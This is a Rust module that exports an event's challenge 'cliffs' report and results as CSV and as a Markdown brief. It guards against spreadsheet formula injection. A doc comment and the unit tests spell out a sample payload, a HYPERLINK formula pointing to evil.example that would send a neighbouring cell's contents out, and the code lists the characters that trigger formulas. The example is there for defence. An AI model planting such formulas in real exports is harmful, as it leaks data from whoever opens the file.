//! The cliffs report and the results as CSV (RFC 4180: comma, CRLF, quotes doubled) and the
//! report as a Markdown brief. Both are renderings of the same [`CliffsReport`] the JSON
//! answer serializes, so the three forms always agree.
//!
//! A CSV download is opened in a spreadsheet, and a spreadsheet runs a cell that starts with
//! `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula: a team named
//! `=HYPERLINK("https://evil.example/?"&B3,"results")` would become a live link that sends
//! the next cell to its author. Every CSV row is written by [`csv_row`], which passes each
//! text cell through [`csv_field`]: such a cell gets a leading `'` (OWASP's advice), which
//! spreadsheets read as "this is text", and is quoted. Numbers the server computed (ranks,
//! counts, seconds, scores) are [`CsvCell::Number`]s and written as they are, so a negative
//! number stays a number.

use std::fmt::Write as _;

use crate::{
    insights::{cliffs::CliffsReport, results::Results, survey::SurveySummary},
    models::survey::QuestionKind,
};

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One text cell of a CSV file: neutralized when a spreadsheet would read it as a formula
/// (prefixed with `'`), and quoted when it needs to be (always, once neutralized).
pub fn csv_field(value: &str) -> String {
    if value.starts_with(FORMULA_TRIGGERS) {
        format!("\"'{}\"", value.replace('"', "\"\""))
    } else if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_owned()
    }
}

/// A cell of a CSV row: text (names, messages, slugs, times), which may come from anyone and
/// is neutralized, or a number the server computed, which is written as it is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CsvCell {
    /// Text, written through [`csv_field`].
    Text(String),
    /// A number, written in decimal (`-5` stays a number).
    Number(i64),
}

impl CsvCell {
    fn text(value: impl Into<String>) -> Self {
        Self::Text(value.into())
    }

    fn count(value: impl TryInto<i64>) -> Self {
        Self::Number(value.try_into().unwrap_or(i64::MAX))
    }
}

/// Appends one row, every text cell through [`csv_field`].
fn csv_row(out: &mut String, cells: &[CsvCell]) {
    let line: Vec<String> = cells
        .iter()
        .map(|cell| match cell {
            CsvCell::Text(text) => csv_field(text),
            CsvCell::Number(n) => n.to_string(),
        })
        .collect();
    out.push_str(&line.join(","));
    out.push_str("\r\n");
}

fn header(columns: impl IntoIterator<Item = String>) -> Vec<CsvCell> {
    columns.into_iter().map(CsvCell::Text).collect()
}

/// Columns of the cliffs CSV, one row per cliff, in rank order.
pub const CLIFF_COLUMNS: [&str; 20] = [
    "rank",
    "challenge",
    "check",
    "lost_seconds",
    "teams_affected",
    "teams_total",
    "median_stuck_seconds",
    "failed_attempts",
    "help_calls",
    "validator_errors",
    "organizations_affected",
    "evidence_count",
    "first_evidence",
    "score",
    "hints",
    "questions",
    "questions_to_everyone",
    "nudges",
    "sign_offs_rejected",
    "skips",
];

/// The report as CSV.
pub fn cliffs_csv(report: &CliffsReport) -> String {
    let mut out = String::new();
    csv_row(&mut out, &header(CLIFF_COLUMNS.map(str::to_owned)));
    for c in &report.cliffs {
        csv_row(
            &mut out,
            &[
                CsvCell::count(c.rank),
                CsvCell::text(&c.challenge),
                CsvCell::text(c.check.clone().unwrap_or_default()),
                CsvCell::Number(c.lost_seconds),
                CsvCell::count(c.teams_affected),
                CsvCell::count(c.teams_total),
                CsvCell::Number(c.median_stuck_seconds),
                CsvCell::count(c.failed_attempts),
                CsvCell::count(c.help_calls),
                CsvCell::count(c.validator_errors),
                CsvCell::count(c.organizations_affected),
                CsvCell::count(c.evidence.len()),
                CsvCell::text(
                    c.evidence
                        .first()
                        .map(|e| e.text.clone())
                        .unwrap_or_default(),
                ),
                CsvCell::Number(c.score),
                CsvCell::count(c.hints),
                CsvCell::count(c.questions),
                CsvCell::count(c.questions_to_everyone),
                CsvCell::count(c.nudges),
                CsvCell::count(c.sign_offs_rejected),
                CsvCell::count(c.skips),
            ],
        );
    }
    out
}

/// A duration as `1h 02m`, `5m 03s` or `12s`.
pub fn human(seconds: i64) -> String {
    let (h, m, s) = (seconds / 3600, seconds % 3600 / 60, seconds % 60);
    if h > 0 {
        format!("{h}h {m:02}m")
    } else if m > 0 {
        format!("{m}m {s:02}s")
    } else {
        format!("{s}s")
    }
}

fn md_cell(text: &str) -> String {
    text.replace('|', "\\|").replace(['\n', '\r'], " ")
}

/// The report as a Markdown brief for a product team.
pub fn cliffs_markdown(report: &CliffsReport) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# Cliffs of `{}`\n", report.event);
    let _ = writeln!(
        out,
        "Generated {} UTC. Ranked by score: the time lost (the sum over affected teams of the \
         time each was stuck) plus what the coach's playbook saw — 10 min per hint unlocked, \
         10 min per question (30 min when answered to everyone), 20 min per nudge, 15 min per \
         rejected sign-off, 60 min per skip (a coach opened the next challenge for a team stuck \
         here) (ties: time lost, failed attempts, then help calls).\n",
        report.generated_at.format("%Y-%m-%d %H:%M:%S")
    );
    if report.cliffs.is_empty() {
        out.push_str("No cliffs: no team was stuck.\n");
        return out;
    }
    out.push_str("| rank | challenge | check | score | time lost | teams affected | median stuck | failed attempts | help calls | hints | questions (to everyone) | nudges | sign-offs rejected | skips | validator errors | organizations |\n");
    out.push_str(
        "|---:|---|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|\n",
    );
    for c in &report.cliffs {
        let _ = writeln!(
            out,
            "| {} | {} | {} | {} | {} | {}/{} | {} | {} | {} | {} | {} ({}) | {} | {} | {} | {} | {} |",
            c.rank,
            md_cell(&c.challenge),
            md_cell(c.check.as_deref().unwrap_or("(whole challenge)")),
            human(c.score),
            human(c.lost_seconds),
            c.teams_affected,
            c.teams_total,
            human(c.median_stuck_seconds),
            c.failed_attempts,
            c.help_calls,
            c.hints,
            c.questions,
            c.questions_to_everyone,
            c.nudges,
            c.sign_offs_rejected,
            c.skips,
            c.validator_errors,
            c.organizations_affected,
        );
    }
    for c in &report.cliffs {
        let _ = writeln!(
            out,
            "\n## {}. {} — {}\n",
            c.rank,
            c.challenge,
            c.check.as_deref().unwrap_or("(whole challenge)")
        );
        for e in &c.evidence {
            let by = e
                .author
                .as_deref()
                .map(|name| format!("{}, ", md_cell(name)))
                .unwrap_or_default();
            let _ = writeln!(
                out,
                "- **{}** ({}{}, {}, {}): {}",
                e.kind,
                by,
                md_cell(&e.team),
                md_cell(&e.organization),
                e.at.format("%Y-%m-%d %H:%M"),
                md_cell(&e.text)
            );
        }
    }
    if let Some(survey) = &report.survey {
        survey_markdown(&mut out, survey);
    }
    out
}

/// The closing survey's section of the Markdown brief.
fn survey_markdown(out: &mut String, survey: &SurveySummary) {
    let _ = writeln!(
        out,
        "\n## The closing survey\n\n{} of {} participants answered ({:.0}%); the answers are anonymous.",
        survey.respondents,
        survey.participants,
        survey.response_rate * 100.0
    );
    if let Some(nps) = survey.net_promoter_score {
        let _ = writeln!(out, "\nNet promoter score: **{nps}**.");
    }
    for q in &survey.questions {
        let _ = writeln!(out, "\n### {} ({} answers)\n", md_cell(&q.text), q.answers);
        match q.kind {
            QuestionKind::Scale => {
                out.push_str("| answer | 0 | 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 | 9 | 10 |\n");
                out.push_str("|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|\n");
                let cells: Vec<String> = q.distribution.iter().map(u32::to_string).collect();
                let _ = writeln!(out, "| people | {} |", cells.join(" | "));
                if let Some(mean) = q.mean {
                    let _ = writeln!(out, "\nMean: {mean:.1}.");
                }
            }
            QuestionKind::Choice => {
                for c in &q.choices {
                    let _ = writeln!(out, "- {}: {}", md_cell(&c.choice), c.count);
                }
            }
            QuestionKind::Text => {
                for text in &q.texts {
                    let _ = writeln!(out, "> {}\n", md_cell(text));
                }
            }
        }
    }
    let _ = writeln!(
        out,
        "\n### By organization\n\nOnly organizations with at least {} answers are shown.\n",
        survey.min_per_organization
    );
    for o in &survey.by_organization {
        let nps = o
            .net_promoter_score
            .map(|n| format!(", net promoter score {n}"))
            .unwrap_or_default();
        let _ = writeln!(
            out,
            "- {}: {} answers{}",
            md_cell(&o.organization),
            o.respondents,
            nps
        );
    }
}

/// The results as CSV: one row per team, with each challenge's solve time in seconds from the
/// event's start (empty when unsolved).
pub fn results_csv(results: &Results) -> String {
    let mut out = String::new();
    // On an event with brackets, each team's bracket and its rank there follow its standing.
    let bracketed = !results.brackets.is_empty();
    let bracket_columns = if bracketed {
        &["bracket", "bracket_rank"][..]
    } else {
        &[][..]
    };
    let columns = [
        "rank",
        "team",
        "organization",
        "solved",
        "score",
        "last_solve_at",
    ]
    .iter()
    .chain(bracket_columns)
    .map(|c| (*c).to_owned())
    .chain(results.challenges.iter().map(|c| format!("{c}_seconds")));
    csv_row(&mut out, &header(columns));
    for s in &results.standings {
        let mut row = vec![
            CsvCell::count(s.rank),
            CsvCell::text(&s.team),
            CsvCell::text(&s.organization),
            CsvCell::count(s.solved),
            CsvCell::Number(s.score),
            CsvCell::text(s.last_solve_at.map(|t| t.to_rfc3339()).unwrap_or_default()),
        ];
        if bracketed {
            row.push(CsvCell::text(s.bracket.clone().unwrap_or_default()));
            row.push(match s.bracket_rank {
                Some(rank) => CsvCell::count(rank),
                None => CsvCell::text(""),
            });
        }
        // Unsolved: an empty cell, not a number.
        row.extend(s.challenges.iter().map(|c| match c.solve_seconds {
            Some(seconds) => CsvCell::Number(seconds),
            None => CsvCell::text(""),
        }));
        csv_row(&mut out, &row);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_are_quoted_when_needed() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn text_a_spreadsheet_would_run_is_neutralized_and_quoted() {
        assert_eq!(
            csv_field("=HYPERLINK(\"https://evil.example\",\"x\")"),
            "\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\""
        );
        assert_eq!(csv_field("+1"), "\"'+1\"");
        assert_eq!(csv_field("-2+3"), "\"'-2+3\"");
        assert_eq!(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(csv_field("\t=1"), "\"'\t=1\"");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        // Only the first character matters; a formula sign inside text is text.
        assert_eq!(csv_field("a=b"), "a=b");
        assert_eq!(csv_field("x, =1"), "\"x, =1\"");
        assert_eq!(csv_field(""), "");
    }

    #[test]
    fn numbers_stay_numbers_and_text_that_looks_like_one_is_text() {
        let mut out = String::new();
        csv_row(
            &mut out,
            &[
                CsvCell::Number(-5),
                CsvCell::Number(42),
                CsvCell::text("-5"),
                CsvCell::text(""),
            ],
        );
        assert_eq!(out, "-5,42,\"'-5\",\r\n");
    }

    #[test]
    fn durations_read_like_people_write_them() {
        assert_eq!(human(12), "12s");
        assert_eq!(human(303), "5m 03s");
        assert_eq!(human(3720), "1h 02m");
    }
}
